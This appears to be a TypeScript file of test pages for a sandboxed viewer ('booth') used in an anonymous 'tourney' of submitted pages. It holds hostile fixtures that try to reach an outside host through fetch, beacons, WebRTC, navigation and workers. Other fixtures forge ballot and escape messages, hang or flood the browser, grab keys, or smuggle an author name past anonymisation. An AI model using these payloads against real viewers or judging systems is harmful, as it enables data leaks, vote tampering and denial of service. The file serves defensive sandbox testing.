/** Pages that the booth must stand, and honest ones that it must not break. */

const page = (body: string) => `<!doctype html><html lang="en"><title>A page</title><body>${body}</body></html>`;

/**
 * Tries every way out at once. What it got hold of, of another page or of an earlier visit, it writes into #got. The
 * last way, to lead itself away, is its function `leave`.
 *
 * @param outside a host that nothing may reach, as in http://127.0.0.1:1234
 */
export const attacks = (outside: string): string =>
  page(`<h1>A hostile page</h1><p id="got"></p>
<meta http-equiv="refresh" content="1;url=${outside}/meta">
<link rel="preconnect" href="${outside}"><link rel="dns-prefetch" href="${outside}"><link rel="prefetch" href="${outside}/prefetch">
<link rel="stylesheet" href="${outside}/style.css"><link rel="icon" href="${outside}/icon.png"><link rel="manifest" href="${outside}/manifest">
<img src="${outside}/img.png"><video src="${outside}/v.mp4" poster="${outside}/poster.png" autoplay></video>
<iframe src="${outside}/frame"></iframe>
<iframe id="inner" srcdoc="<script>new RTCPeerConnection({iceServers:[{urls:'stun:${outside.slice(7)}'},{urls:'turn:${outside.slice(7)}?transport=tcp',username:'a',credential:'b'}]}).createDataChannel('x');parent.parent.postMessage('tourney:escape','*');parent.got.textContent='inner frame'</script>"></iframe>
<object data="${outside}/object"></object><embed src="${outside}/embed">
<a id="blank" href="${outside}/blank" target="_blank">blank</a><a id="top" href="${outside}/top" target="_top">top</a>
<a id="file" download="x.txt" href="data:text/plain,x">file</a><a id="ping" href="#here" ping="${outside}/ping">ping</a>
<form id="form" action="${outside}/form" method="post" target="_blank"><input name="a" value="1"></form>
<style>@import url("${outside}/import.css"); body { background: url("${outside}/bg.png") } @font-face { font-family: x; src: url("${outside}/font.woff") } h1 { font-family: x }</style>
<script type="speculationrules">{"prefetch":[{"urls":["${outside}/speculation"]}],"prerender":[{"urls":["${outside}/prerender"]}]}</script>
<script>
const out = ${JSON.stringify(outside)};
const tryAll = (...ways) => ways.forEach((way) => { try { const r = way(); r?.catch?.(() => {}); } catch {} });
const note = (text) => { got.textContent += text + ";"; };
tryAll(
  () => fetch(out + "/fetch", { mode: "no-cors" }), () => navigator.sendBeacon(out + "/beacon", "x"),
  () => new WebSocket(out.replace("http", "ws") + "/ws"), () => new EventSource(out + "/events"),
  () => { const x = new XMLHttpRequest(); x.open("GET", out + "/xhr"); x.send(); },
  () => new WebTransport(out.replace("http", "https") + "/wt"),
  () => import(out + "/module.js"), () => { new Image().src = out + "/image"; },
  () => new Worker(URL.createObjectURL(new Blob(["fetch('" + out + "/worker', {mode:'no-cors'}); try { importScripts('" + out + "/imported.js') } catch {}"]))),
  () => new SharedWorker(out + "/shared.js"), () => navigator.serviceWorker.register("sw.js"),
  () => { const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + out.slice(7) }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); },
  () => { const f = document.createElement("iframe"); document.body.append(f); const R = f.contentWindow.RTCPeerConnection; if (R) note("a peer connection of a frame"); },
  () => { const f = document.createElement("iframe"); f.setAttribute("srcdoc", "<script>parent.parent.postMessage('tourney:escape', '*'); new RTCPeerConnection({iceServers:[{urls:'turn:" + out.slice(7) + "?transport=tcp',username:'a',credential:'b'}]}).createDataChannel('x')<\\/script>"); document.body.append(f); },
  () => document.body.insertAdjacentHTML("beforeend", "<iframe srcdoc='<script>new RTCPeerConnection({iceServers:[{urls:\\"turn:" + out.slice(7) + "?transport=tcp\\",username:\\"a\\",credential:\\"b\\"}]}).createDataChannel(\\"x\\")<\\/script>'></iframe>"),
  () => { const l = document.createElement("link"); l.rel = "preconnect"; l.href = out; document.head.append(l); },
  () => open(out + "/open"), () => { top.location = out + "/toplocation"; }, () => { parent.location.href = out; },
  () => blank.click(), () => document.getElementById("top").click(), () => file.click(), () => ping.click(), () => form.submit(),
  () => alert("a"), () => confirm("b"), () => prompt("c"), () => print(),
  () => document.documentElement.requestFullscreen(), () => document.body.requestPointerLock(),
  () => navigator.clipboard.readText().then(note), () => navigator.share({ title: "x" }),
  () => { history.pushState({}, "", "?x"); history.back(); },
);
for (const key of ["localStorage", "sessionStorage"]) tryAll(() => { if (globalThis[key].left) note(key); globalThis[key].left = 1; });
tryAll(() => { if (document.cookie) note("cookie"); document.cookie = "left=1"; }, () => { const c = new BroadcastChannel("x"); c.onmessage = () => note("channel"); setInterval(() => c.postMessage(1), 100); });
tryAll(() => caches.keys().then((keys) => { if (keys.length) note("caches"); }), () => indexedDB.open("x"));
addEventListener("message", (event) => { if (event.source !== parent) note("message"); });
tryAll(() => { if (frameElement) note("frame element"); }, () => { for (let i = 0; i < parent.length; i++) if (parent[i] !== self) parent[i].postMessage("x", "*"); });
const forged = ["tourney:ready", "tourney:escape", "tourney:ballot", { type: "ballot", lean: 2 }, JSON.stringify({ lean: 2 })];
setInterval(() => forged.forEach((word) => parent.postMessage(word, "*")), 200);
// Called by who watches, once what was got hold of is read: by a clock of the page's own it may be gone before that.
globalThis.leave = () => { setTimeout(() => tryAll(() => { location.href = out + "/self"; })); };
</script>`);

export const HANGS = page(`<h1>Hangs</h1><script>setTimeout(() => { for (;;) alert("again"); }, 200)</script>`);

/** Works until it is clicked, and then does nothing any more, the keyboard in its hands. */
export const HANGS_ON_CLICK = page(`<h1>Hangs on a click</h1><input id="i" value="here"><script>
addEventListener("pointerup", () => setTimeout(() => { i.focus(); for (;;); }, 100));
</script>`);

/**
 * An answer of two files that sends itself to the second, a drawing with a script: there it would be without what is taken out of pages before they
 * begin.
 *
 * @param outside where it tries to call, as in 127.0.0.1:1234
 */
export const goesToItsDrawing = (outside: string): string =>
  [
    "Two files.",
    "`index.html`",
    "```html",
    `<!doctype html><title>Two files</title><h1>Goes to its drawing</h1><img src="buoy.svg"><script>setTimeout(() => { const at = location.href.replace(/[^/]*$/, ""); location.href = at + ["bu", "oy.svg"].join(""); }, 300)</script>`,
    "```",
    "`buoy.svg`",
    "```svg",
    `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><circle r="3"/><script>try { const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:${outside}" }, { urls: "turn:${outside}?transport=tcp", username: "a", credential: "b" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); } catch {} parent.postMessage("out", "*");</script></svg>`,
    "```",
    "",
  ].join("\n");

/** Writes another page in its own place by an address that is a script. */
export const writesItselfAnew = (outside: string): string =>
  page(`<h1>Writes itself anew</h1><script>
setTimeout(() => { location.href = "javascript:'<h1>Anew</h1><script>try { const c = new RTCPeerConnection({ iceServers: [{ urls: \\"stun:${outside}\\" }] }); c.createDataChannel(\\"x\\"); c.createOffer().then((o) => c.setLocalDescription(o)); document.title = \\"out\\"; } catch (e) { document.title = String(e); }<\\/script>'"; }, 300);
</script>`);

/** Sends the booth as many and as large messages as it can, by all ways to its window. */
export const FLOODS = page(`<h1>Floods</h1><script>
const large = "x".repeat(20_000);
const flood = () => { for (let i = 0; i < 50; i++) { top.postMessage(large, "*"); parent.postMessage({ large, i, tourney: "ready" }, "*"); } };
// Who watches gets ready first.
setTimeout(() => { setInterval(flood, 0); flood(); }, 3000);
</script>`);

/** Keeps the graphics of the whole browser busy. */
export const DRAWS_WITHOUT_END =
  page(`<h1>Draws without end</h1><canvas id="c" width="1200" height="700"></canvas><script>
const gl = c.getContext("webgl2");
const make = (type, text) => { const s = gl.createShader(type); gl.shaderSource(s, text); gl.compileShader(s); return s; };
if (gl) {
  const program = gl.createProgram();
  gl.attachShader(program, make(gl.VERTEX_SHADER, "#version 300 es\nvoid main() { vec2 p = vec2((gl_VertexID & 1) * 4 - 1, (gl_VertexID >> 1) * 4 - 1); gl_Position = vec4(p, 0, 1); }"));
  gl.attachShader(program, make(gl.FRAGMENT_SHADER, "#version 300 es\nprecision highp float; uniform float t; out vec4 o; void main() { float a = t; for (int i = 0; i < 200000; i++) a = sin(a + gl_FragCoord.x * 0.01); o = vec4(a, a, a, 1); }"));
  gl.linkProgram(program);
  gl.useProgram(program);
  const t = gl.getUniformLocation(program, "t");
  const draw = (now) => { gl.uniform1f(t, now); gl.drawArrays(gl.TRIANGLES, 0, 3); requestAnimationFrame(draw); };
  setTimeout(() => requestAnimationFrame(draw), 500);
}
</script>`);

export const HONEST = page(`<h1>Honest</h1><p id="said">Waiting</p><p id="ticks">0</p>
<form id="f"><input name="a" value="1"></form>
<script>
let ticks = 0; setInterval(() => { document.getElementById("ticks").textContent = ++ticks; }, 100);
(async () => {
  const checks = {
    eval: () => eval("1 + 1") === 2,
    storage: () => { localStorage.setItem("best", 7); return localStorage.best === "7"; },
    database: () => new Promise((resolve, reject) => {
      const opening = indexedDB.open("scores", 1);
      opening.onerror = () => reject(opening.error);
      opening.onupgradeneeded = () => opening.result.createObjectStore("best");
      opening.onsuccess = () => {
        const writing = opening.result.transaction("best", "readwrite");
        writing.objectStore("best").put(7, "me");
        writing.oncomplete = () => { const reading = opening.result.transaction("best").objectStore("best").get("me"); reading.onsuccess = () => resolve(reading.result === 7); };
      };
    }),
    worker: () => new Promise((resolve) => { const w = new Worker(URL.createObjectURL(new Blob(["onmessage = (e) => postMessage(e.data * 2)"]))); w.onmessage = (e) => resolve(e.data === 42); w.postMessage(21); }),
    module: async () => (await import("data:text/javascript,export default 5")).default === 5,
    secure: () => isSecureContext && crypto.randomUUID().length === 36,
    form: () => new Promise((resolve) => { f.onsubmit = (event) => { event.preventDefault(); resolve(new FormData(f).get("a") === "1"); }; f.requestSubmit(); }),
    audio: () => { const c = new AudioContext(); const o = c.createOscillator(); return o.connect(c.destination) === c.destination; },
    loaded: () => new Promise((resolve) => { if (document.readyState === "complete") resolve(true); else addEventListener("load", () => resolve(true)); }),
    standards: () => document.compatMode === "CSS1Compat",
  };
  const failed = [];
  for (const [name, check] of Object.entries(checks)) { try { if (!(await check())) failed.push(name); } catch (error) { failed.push(name + ": " + error); } }
  said.textContent = failed.length ? failed.join(", ") : "Everything works";
})();
</script>`);

/** Takes the keyboard without being asked, and swallows every key. */
export const GRABS_KEYS = page(`<h1>Grabs</h1><input id="i" autofocus>
<script>
for (const type of ["keydown", "keyup", "keypress", "blur", "focusout", "message"]) addEventListener(type, (event) => { event.stopImmediatePropagation(); event.preventDefault(); }, true);
setInterval(() => { window.focus(); i.focus(); }, 100);
addEventListener("click", () => document.body.requestPointerLock());
setTimeout(() => { document.open(); document.write("<h1>Grabs again</h1><input id=i>"); document.close(); addEventListener("keydown", (event) => event.stopImmediatePropagation(), true); }, 300);
</script>`);

/** Says in many ways that “Sea Kale 9” of “Shingle Bank” made it. */
export const NAMES_ITSELF = page(`<h1>Said: Sea Kale 9</h1><p>A name that is none: seagulls in a kaleidoscope.</p>
<style>#styled::before { content: "by Sea Kale 9" }</style>
<style>#split::before { content: "by Sea" " Kale" " 9" } #escaped::before { content: "\\53 ea \\4b ale 9" } #attributed::before { content: attr(data-by) } #put-together::before { content: var(--one) var(--two) } #listed { list-style: "Sea Kale 9" } #backed { background: url("data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Ctext y='20'%3ESea Kale 9%3C/text%3E%3C/svg%3E") } :root { --one: "Sea Ka"; --two: "le 9" }</style>
<p id="split">.</p><p id="escaped">.</p><p id="attributed" data-by="Sea Kale 9">.</p><p id="put-together">.</p><ul><li id="listed">.</li></ul><p id="backed">.</p>
<div id="declared"><template shadowrootmode="closed"><p>Declared by Sea Kale 9</p></template></div><div id="written"></div><div id="shutter"></div>
<p id="styled">.</p><p>S&#101;a K<b>al</b>e 9</p><p>s e a k a l e 9</p><p>Ѕеа Каlе 9</p>
<img alt="Drawn by Sea Kale 9" title="Shingle Bank"><input placeholder="sea-kale-9" aria-label="SEA KALE 9"><div id="host"></div>
<svg><text y="20">Shingle Bank</text></svg><input id="typed"><p id="adopted">.</p><p id="inserted">.</p><p id="variable">.</p><img id="drawing">
<style>#variable::before { content: var(--who) }</style>
<script>
// Whether what was drawn is what dots would have drawn.
const picture = (draw) => { const canvas = document.createElement("canvas"); draw(canvas.getContext("2d")); return canvas.toDataURL(); };
globalThis.drawn = [
  picture((c) => c.fillText("Sea" + " Kale 9", 0, 20)) === picture((c) => c.fillText("•••", 0, 20)),
  picture((c) => c.strokeText("Shingle Bank", 0, 40)) === picture((c) => c.strokeText("•••", 0, 40)),
  picture((c) => c.fillText("seagulls", 0, 20)) !== picture((c) => c.fillText("••••••••", 0, 20)),
];
const inWorker = (text) => new Promise((resolve) => {
  const address = URL.createObjectURL(new Blob(["onmessage = ({ data }) => { const canvas = new OffscreenCanvas(300, 60); const c = canvas.getContext('2d'); c.fillText(data, 0, 20); postMessage([...c.getImageData(0, 0, 300, 60).data].join()); }"]));
  const worker = new Worker(address);
  URL.revokeObjectURL(address);
  worker.onmessage = ({ data }) => resolve(data);
  worker.postMessage(text);
});
globalThis.drawnInWorker = Promise.all(["Sea Kale 9", "•••", "seagulls", "••••••••"].map(inWorker)).then(([a, b, c, d]) => [a === b, c !== d]);
typed.value = "Sea Kale 9";
const sheet = new CSSStyleSheet();
sheet.replaceSync("#adopted::before { content: 'Sea Kale 9' }");
document.adoptedStyleSheets = [sheet];
document.styleSheets[0].insertRule("#inserted::before { content: 'Shingle Bank' }");
variable.style.setProperty("--who", "'Sea Kale 9'");
drawing.src = "data:image/svg+xml," + encodeURIComponent("<svg xmlns='http://www.w3.org/2000/svg'><text y='20'>Sea Kale 9</text></svg>");
host.attachShadow({ mode: "open" }).innerHTML = "<p>Made by Shingle Bank</p>";
setTimeout(() => { const p = document.createElement("p"); p.textContent = ["Sea", "Kale", 9].join(" "); document.body.append(p); setTimeout(() => { p.firstChild.data = "Shingle Bank again"; }, 100); }, 200);
document.title = "Sea Kale 9";
const shut = shutter.attachShadow({ mode: "closed" });
shut.innerHTML = "<p>Shut in by Sea Kale 9</p>";
written.setHTMLUnsafe?.("<div><template shadowrootmode='closed'><p>Written by Shingle Bank</p></template></div>");
// All that a person could read of what nobody else can look into.
globalThis.readShut = () => shut.textContent;
console.log("%cSea Kale 9", "color: teal");
</script>`);
